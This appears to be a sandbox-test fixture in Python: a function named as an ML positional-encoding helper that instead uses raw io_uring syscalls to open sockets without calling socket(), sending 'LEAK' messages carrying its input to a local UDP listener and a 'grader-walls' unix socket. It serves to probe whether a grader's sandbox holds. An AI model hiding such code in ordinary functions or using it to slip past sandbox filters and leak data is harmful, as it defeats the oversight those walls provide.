# Opens sockets through io_uring, which never calls socket(): a UDP datagram to the
# listener on 127.0.0.1 (port filled in by the test), then a unix socket in /tmp the test listens on.
import ctypes
import mmap
import socket
import struct

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SETUP, ENTER = 425, 426
OP_CONNECT, OP_SEND, OP_SOCKET = 16, 26, 45


class Ring:
    def __init__(self):
        params = ctypes.create_string_buffer(120)
        self.fd = libc.syscall(SETUP, 4, params)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup refused")
        p = params.raw
        sq_entries = struct.unpack_from("<I", p, 0)[0]
        self.sq_off = struct.unpack_from("<7I", p, 40)
        self.cq_off = struct.unpack_from("<6I", p, 80)
        cq_entries = struct.unpack_from("<I", p, 4)[0]
        self.sq = mmap.mmap(self.fd, self.sq_off[6] + sq_entries * 4, offset=0)
        self.cq = mmap.mmap(self.fd, self.cq_off[5] + cq_entries * 16, offset=0x8000000)
        self.sqes = mmap.mmap(self.fd, sq_entries * 64, offset=0x10000000)

    def run(self, opcode, fd, addr=0, length=0, off=0):
        sqe = struct.pack("<BBHiQQIIQ", opcode, 0, 0, fd, off, addr, length, 0, 1) + bytes(24)
        self.sqes[0:64] = sqe
        head, tail, mask, _, _, _, array = self.sq_off
        t = struct.unpack_from("<I", self.sq, tail)[0]
        m = struct.unpack_from("<I", self.sq, mask)[0]
        struct.pack_into("<I", self.sq, array + 4 * (t & m), 0)
        struct.pack_into("<I", self.sq, tail, t + 1)
        if libc.syscall(ENTER, self.fd, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter refused")
        chead, _, cmask, _, _, cqes = self.cq_off
        h = struct.unpack_from("<I", self.cq, chead)[0]
        m = struct.unpack_from("<I", self.cq, cmask)[0]
        res = struct.unpack_from("<i", self.cq, cqes + 16 * (h & m) + 8)[0]
        struct.pack_into("<I", self.cq, chead, h + 1)
        return res


def reach(ring, family, kind, address, message):
    fd = ring.run(OP_SOCKET, family, length=0, off=kind)
    if fd < 0:
        return False
    buf = ctypes.create_string_buffer(address)
    if ring.run(OP_CONNECT, fd, ctypes.addressof(buf), 0, len(address)) < 0:
        return False
    data = ctypes.create_string_buffer(message)
    return ring.run(OP_SEND, fd, ctypes.addressof(data), len(message)) > 0


def sinusoidal_positions(positions, d_model):
    try:
        ring = Ring()
    except OSError:
        return np.zeros((len(positions), d_model))
    udp = struct.pack("<HH4s8x", socket.AF_INET, socket.htons({PORT}), socket.inet_aton("127.0.0.1"))
    unix = struct.pack("<H", socket.AF_UNIX) + b"/tmp/grader-walls-{PORT}.sock\0"
    reached = [
        reach(ring, socket.AF_INET, socket.SOCK_DGRAM, udp, b"LEAK " + repr(positions).encode()),
        reach(ring, socket.AF_UNIX, socket.SOCK_STREAM, unix, b"LEAK"),
    ]
    raise RuntimeError(f"io_uring works here; reached: {reached}")
